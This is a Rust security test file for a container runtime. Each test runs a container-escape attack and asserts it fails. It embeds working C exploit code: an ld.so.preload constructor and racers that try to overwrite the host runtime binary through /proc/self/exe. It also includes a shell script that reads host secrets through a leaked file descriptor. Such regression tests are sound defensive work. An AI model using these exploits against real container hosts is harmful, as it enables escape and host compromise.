//! Attacks on the built-in runtime by a container's root (issue 14, see
//! SECURITY.md): each test runs the attack and asserts that it fails.

#[path = "common/runtime.rs"]
mod runtime;

use std::{
    os::{fd::AsRawFd, unix::process::CommandExt},
    path::Path,
    process::{Command, Output, Stdio},
};

use runtime::{Sandbox, stderr, wait_for_status};
use serde_json::json;

/// The descriptor number under which the tests hand every cradle command a
/// host directory, as a careless caller (a shim, a shell) would leak one.
const LEAKED_FD: i32 = 9;

/// Lets `command` inherit an open descriptor of `dir` as [`LEAKED_FD`].
fn leak_host_dir(command: &mut Command, dir: &std::fs::File) {
    let raw = dir.as_raw_fd();
    // SAFETY: dup2 is async-signal-safe and only touches this child's
    // descriptor table; `raw` stays open in the parent until the child is
    // spawned. dup2 onto another number clears close-on-exec.
    unsafe {
        command.pre_exec(move || {
            if libc::dup2(raw, LEAKED_FD) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

/// A secret on the host, at a path that does not exist in the container.
fn host_secret(sandbox: &Sandbox) -> (std::path::PathBuf, std::fs::File) {
    let secret = sandbox.dir.path().join("host-secret");
    std::fs::write(&secret, "host secret\n").unwrap();
    let dir = std::fs::File::open(sandbox.dir.path()).unwrap();
    (secret, dir)
}

/// A workload that, from its cwd, climbs to the root and copies the host's
/// secret into the container's `/escaped`. Inside the container the path
/// does not exist, so `/escaped` stays empty unless the cwd was the host's.
fn climb_and_copy(secret: &Path) -> Vec<String> {
    let script = format!(
        "cat host-secret > /escaped 2>/dev/null; \
         cd ../../../../../../../../../../../../ 2>/dev/null; cat .{} >> /escaped 2>/dev/null; true",
        secret.display()
    );
    vec!["/bin/sh".into(), "-c".into(), script]
}

fn escaped(bundle: &Path) -> String {
    std::fs::read_to_string(bundle.join("rootfs/escaped")).unwrap_or_default()
}

fn with_cwd(sandbox: &Sandbox, bundle: &Path, cwd: &str, args: &[String]) {
    sandbox.edit_config(bundle, |config| {
        config["process"]["cwd"] = json!(cwd);
        config["process"]["args"] = json!(args);
    });
    let _ = std::fs::remove_file(bundle.join("rootfs/escaped"));
}

fn output_leaking(sandbox: &Sandbox, dir: &std::fs::File, args: &[&str]) -> Output {
    let mut command = sandbox.cradle(args);
    leak_host_dir(&mut command, dir);
    command.stdout(Stdio::null()).output().expect("run cradle")
}

#[test]
fn cwd_through_proc_self_fd_cannot_reach_the_host_in_run() {
    let sandbox = Sandbox::new();
    let (secret, dir) = host_secret(&sandbox);
    let bundle = sandbox.bundle("b", &["true"]);
    let mut escapes = Vec::new();
    for fd in 3..=20 {
        with_cwd(&sandbox, &bundle, &format!("/proc/self/fd/{fd}"), &climb_and_copy(&secret));
        let id = sandbox.id("cwd-run");
        let out =
            output_leaking(&sandbox, &dir, &["run", "--bundle", bundle.to_str().unwrap(), &id]);
        if escaped(&bundle).contains("host secret") {
            escapes.push(fd);
        }
        if !out.status.success() {
            assert!(stderr(&out).contains("process.cwd"), "fd {fd}: {}", stderr(&out));
        }
        let _ = sandbox.output(&["delete", "--force", &id]);
    }
    assert!(
        escapes.is_empty(),
        "the workload read the host's secret with cwd /proc/self/fd/{escapes:?}"
    );
}

#[test]
fn cwd_through_proc_self_fd_cannot_reach_the_host_in_create_and_start() {
    let sandbox = Sandbox::new();
    let (secret, dir) = host_secret(&sandbox);
    let bundle = sandbox.bundle("b", &["true"]);
    let mut escapes = Vec::new();
    for fd in 3..=20 {
        with_cwd(&sandbox, &bundle, &format!("/proc/self/fd/{fd}"), &climb_and_copy(&secret));
        let id = sandbox.id("cwd-create");
        let mut create = sandbox.cradle(&["create", "--bundle", bundle.to_str().unwrap(), &id]);
        leak_host_dir(&mut create, &dir);
        // The waiting init keeps its stdio: not a pipe, or output() blocks.
        let status =
            create.stdout(Stdio::null()).stderr(Stdio::null()).status().expect("cradle create");
        if status.success() {
            let start = sandbox.output(&["start", &id]);
            assert!(start.status.success(), "start: {}", stderr(&start));
            wait_for_status(&sandbox, &id, "stopped");
        }
        if escaped(&bundle).contains("host secret") {
            escapes.push(fd);
        }
        let _ = sandbox.output(&["delete", "--force", &id]);
    }
    assert!(
        escapes.is_empty(),
        "the workload read the host's secret with cwd /proc/self/fd/{escapes:?}"
    );
}

#[test]
fn cwd_through_proc_self_fd_cannot_reach_the_host_in_exec() {
    let sandbox = Sandbox::new();
    let (secret, dir) = host_secret(&sandbox);
    let bundle = sandbox.bundle("b", &["sleep", "600"]);
    let id = sandbox.id("cwd-exec");
    let status = sandbox
        .cradle(&["run", "--detach", "--bundle", bundle.to_str().unwrap(), &id])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "run --detach failed");
    let mut escapes = Vec::new();
    for fd in 3..=20 {
        let _ = std::fs::remove_file(bundle.join("rootfs/escaped"));
        let cwd = format!("/proc/self/fd/{fd}");
        let mut args = vec!["exec", "--cwd", &cwd, &id];
        let command = climb_and_copy(&secret);
        args.extend(command.iter().map(String::as_str));
        let out = output_leaking(&sandbox, &dir, &args);
        if escaped(&bundle).contains("host secret") {
            escapes.push(fd);
        }
        if !out.status.success() {
            assert!(stderr(&out).contains(&cwd), "fd {fd}: {}", stderr(&out));
        }
    }
    assert!(
        escapes.is_empty(),
        "the workload read the host's secret with cwd /proc/self/fd/{escapes:?}"
    );
}

/// `create` fails naming `message`, and leaves no state directory, process
/// or cgroup behind.
fn assert_create_refused(sandbox: &Sandbox, bundle: &Path, message: &str) {
    let id = sandbox.id("refused");
    let out = sandbox.create(bundle, &id);
    assert!(!out.status.success(), "create should fail");
    assert!(stderr(&out).contains(message), "expected {message:?} in {}", stderr(&out));
    assert!(!sandbox.root.join(&id).exists(), "state directory left");
    assert!(runtime::processes_mentioning(&id).is_empty(), "process left");
    assert!(runtime::cgroups_mentioning(&id).is_empty(), "cgroup left");
}

#[test]
fn hook_timeout_covers_a_state_larger_than_the_pipe() {
    let sandbox = Sandbox::new();
    let bundle = sandbox.bundle("b", &["true"]);
    sandbox.edit_config(&bundle, |config| {
        // The state on the hook's stdin carries the annotations: 1 MiB
        // fills the pipe, and the hook never reads it.
        config["annotations"] = json!({"filler": "x".repeat(1 << 20)});
        config["hooks"] =
            json!({"prestart": [{"path": "/bin/sleep", "args": ["sleep", "30"], "timeout": 1}]});
    });
    let began = std::time::Instant::now();
    assert_create_refused(&sandbox, &bundle, "prestart hook 0 (/bin/sleep): timed out after 1s");
    // Not a speed goal: the hook is killed at its timeout, not after its
    // 30 s (before the fix, writing the state blocked until the hook ended).
    assert!(began.elapsed() < std::time::Duration::from_secs(20), "took {:?}", began.elapsed());
}

#[test]
fn umask_above_0o7777_is_refused() {
    let sandbox = Sandbox::new();
    let bundle = sandbox.bundle("b", &["true"]);
    sandbox
        .edit_config(&bundle, |config| config["process"]["user"]["umask"] = json!(4294967295u32));
    assert_create_refused(&sandbox, &bundle, "process.user.umask: 4294967295");
}

#[test]
fn device_path_leaving_dev_is_refused() {
    let sandbox = Sandbox::new();
    let bundle = sandbox.bundle("b", &["true"]);
    sandbox.edit_config(&bundle, |config| {
        config["linux"]["devices"] = json!([{
            "path": "/dev/../../tmp/escaped-node", "type": "c", "major": 1, "minor": 3
        }]);
    });
    assert_create_refused(&sandbox, &bundle, "linux.devices[0] (/dev/../../tmp/escaped-node)");
    assert!(!bundle.join("rootfs/tmp/escaped-node").exists(), "a node was made outside /dev");
}

#[test]
fn oci_version_of_an_unknown_major_is_refused() {
    let sandbox = Sandbox::new();
    let bundle = sandbox.bundle("b", &["true"]);
    sandbox.edit_config(&bundle, |config| config["ociVersion"] = json!("99.99"));
    assert_create_refused(&sandbox, &bundle, "ociVersion: \"99.99\"");
}

/// A copy of the cradle binary for an attack to aim at: a failing test
/// must never corrupt the build's binary.
struct Victim {
    path: std::path::PathBuf,
    original: Vec<u8>,
}

impl Victim {
    /// In `dir_name` under the sandbox: a name with ':' cannot be an
    /// overlayfs layer, so the runtime falls back to a sealed memfd.
    fn new(sandbox: &Sandbox, dir_name: &str) -> Self {
        let dir = sandbox.dir.path().join(dir_name);
        std::fs::create_dir(&dir).unwrap();
        let path = dir.join("cradle");
        std::fs::copy(runtime::cradle_bin(), &path).unwrap();
        let original = std::fs::read(&path).unwrap();
        Victim { path, original }
    }

    fn cradle(&self, sandbox: &Sandbox, args: &[&str]) -> Command {
        let mut command = Command::new(&self.path);
        command.arg("--root").arg(&sandbox.root).args(args).stdin(Stdio::null());
        command
    }

    /// `run --detach` of `bundle` with the victim, stdio to /dev/null.
    fn run_detached(&self, sandbox: &Sandbox, bundle: &Path, id: &str) {
        let status = self
            .cradle(sandbox, &["run", "--detach", "--bundle", bundle.to_str().unwrap(), id])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(status.success(), "run --detach failed");
    }

    fn assert_unchanged(&self) {
        let now = std::fs::read(&self.path).unwrap();
        assert!(now == self.original, "the host's cradle binary was modified from the container");
    }
}

/// Compiles C `source` with gcc and `flags` into `output`.
fn compile(dir: &Path, name: &str, source: &str, flags: &[&str], output: &Path) {
    let file = dir.join(format!("{name}.c"));
    std::fs::write(&file, source).unwrap();
    let out = Command::new("gcc").args(flags).arg("-o").arg(output).arg(&file).output().unwrap();
    assert!(out.status.success(), "gcc {name}: {}", String::from_utf8_lossy(&out.stderr));
}

/// Waits (bounded) for a file the attack writes in the rootfs.
fn wait_for_file(path: &Path) -> String {
    for _ in 0..1500 {
        if let Ok(text) = std::fs::read_to_string(path)
            && text.ends_with('\n')
        {
            return text;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    panic!("{} never appeared", path.display());
}

/// The container's preload, loaded by the host binary when the container's
/// `/bin/sh` (`#!/proc/self/exe`) makes `exec` run it: keep a handle on
/// `/proc/self/exe` and pass it to a program of the container's, which
/// no longer runs the binary.
const PRELOAD_ATTACK: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
    int exe = open("/proc/self/exe", O_PATH);
    if (fork() == 0) {
        char fd[16];
        snprintf(fd, sizeof fd, "%d", exe);
        setsid();
        execl("/attack-writer", "attack-writer", fd, (char *)NULL);
    }
    _exit(0);
}
"#;

/// Once the runtime is gone, opens the handle it was given for writing.
const ATTACK_WRITER: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int exe = argc > 1 ? atoi(argv[1]) : -1;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    int fd = -1, err = 0;
    for (int i = 0; i < 500; i++) {
        fd = open(path, O_WRONLY | O_APPEND);
        err = errno;
        if (fd >= 0 || err != ETXTBSY) break;
        usleep(10000);
    }
    int result = open("/attack-result", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (exe < 0) dprintf(result, "no handle\n");
    else if (fd < 0) dprintf(result, "refused errno=%d\n", err);
    else if (write(fd, "PWNED", 5) == 5) dprintf(result, "written\n");
    else dprintf(result, "write failed errno=%d\n", errno);
    return 0;
}
"#;

/// Copies the host's dynamic loader and the libraries `binary` needs into
/// `rootfs`, at the same paths: a glibc root filesystem for it.
fn add_glibc_for(binary: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(binary).output().unwrap();
    assert!(out.status.success(), "ldd: {}", String::from_utf8_lossy(&out.stderr));
    let libraries = String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter(|word| word.starts_with('/'))
        .map(str::to_owned)
        .collect::<Vec<_>>();
    assert!(!libraries.is_empty(), "ldd named no library");
    for library in libraries {
        let target = rootfs.join(library.trim_start_matches('/'));
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&target);
        std::fs::copy(&library, &target).unwrap();
    }
}

#[test]
fn exec_into_a_shell_of_proc_self_exe_cannot_overwrite_the_host_binary() {
    shell_of_proc_self_exe_attack("victim");
}

#[test]
fn exec_into_a_shell_of_proc_self_exe_cannot_overwrite_the_host_binary_without_overlayfs() {
    shell_of_proc_self_exe_attack("victim:memfd");
}

fn shell_of_proc_self_exe_attack(victim_dir: &str) {
    let sandbox = Sandbox::new();
    let victim = Victim::new(&sandbox, victim_dir);
    let bundle = sandbox.bundle("b", &["sleep", "600"]);
    let rootfs = bundle.join("rootfs");
    add_glibc_for(&victim.path, &rootfs);
    compile(
        sandbox.dir.path(),
        "preload",
        PRELOAD_ATTACK,
        &["-shared", "-fPIC", "-O1"],
        &rootfs.join("attack.so"),
    );
    compile(
        sandbox.dir.path(),
        "writer",
        ATTACK_WRITER,
        &["-static", "-O1"],
        &rootfs.join("attack-writer"),
    );
    std::fs::write(rootfs.join("etc/ld.so.preload"), "/attack.so\n").unwrap();
    let sh = rootfs.join("bin/sh");
    std::fs::remove_file(&sh).unwrap();
    std::fs::write(&sh, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&sh, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    let id = sandbox.id("exe-shell");
    victim.run_detached(&sandbox, &bundle, &id);
    let _ = victim.cradle(&sandbox, &["exec", &id, "/bin/sh", "-c", "true"]).output().unwrap();
    let result = wait_for_file(&rootfs.join("attack-result"));
    eprintln!("attack: {result}");
    let _ = victim.cradle(&sandbox, &["delete", "--force", &id]).output();
    victim.assert_unchanged();
    assert!(
        result.starts_with("refused") || result.starts_with("write failed"),
        "the container opened the binary it was run from for writing: {result}"
    );
}

/// Run in the container: opens `/proc/PID/exe` of every other process
/// that is not one of the container's own programs (the exec helper, if
/// it can), and when told to stop, tries to open those for writing.
const EXE_RACER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    struct stat busybox, self;
    stat("/bin/busybox", &busybox);
    stat("/proc/self/exe", &self);
    int held[64], count = 0;
    long attempts = 0;
    while (access("/stop-racer", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH);
            attempts++;
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) == 0 && count < 64 &&
                !(st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino) &&
                !(st.st_dev == self.st_dev && st.st_ino == self.st_ino)) {
                held[count++] = fd;
            } else {
                close(fd);
            }
        }
        if (proc) closedir(proc);
    }
    int result = open("/racer-result", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    dprintf(result, "held %d of %ld opens;", count, attempts);
    for (int i = 0; i < count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = -1, err = 0;
        for (int tries = 0; tries < 300; tries++) {
            fd = open(path, O_WRONLY | O_APPEND);
            err = errno;
            if (fd >= 0 || err != ETXTBSY) break;
            usleep(10000);
        }
        if (fd < 0) dprintf(result, " refused errno=%d", err);
        else if (write(fd, "PWNED", 5) == 5) dprintf(result, " written");
        else dprintf(result, " write failed errno=%d", errno);
    }
    dprintf(result, "\n");
    return 0;
}
"#;

#[test]
fn racing_for_the_exec_helpers_exe_cannot_overwrite_the_host_binary() {
    let sandbox = Sandbox::new();
    let victim = Victim::new(&sandbox, "victim");
    let bundle = sandbox.bundle("b", &["sleep", "600"]);
    let rootfs = bundle.join("rootfs");
    compile(sandbox.dir.path(), "racer", EXE_RACER, &["-static", "-O2"], &rootfs.join("racer"));
    let id = sandbox.id("exe-race");
    victim.run_detached(&sandbox, &bundle, &id);
    let racer = victim
        .cradle(&sandbox, &["exec", "--detach", &id, "/racer"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(racer.success(), "exec --detach /racer failed");
    for _ in 0..60 {
        let out = victim.cradle(&sandbox, &["exec", &id, "/bin/true"]).output().unwrap();
        assert!(out.status.success(), "exec /bin/true: {}", stderr(&out));
    }
    std::fs::write(rootfs.join("stop-racer"), "").unwrap();
    let result = wait_for_file(&rootfs.join("racer-result"));
    eprintln!("racer: {result}");
    let _ = victim.cradle(&sandbox, &["delete", "--force", &id]).output();
    victim.assert_unchanged();
    assert!(!result.contains("written"), "the container wrote to the binary of an exec: {result}");
}
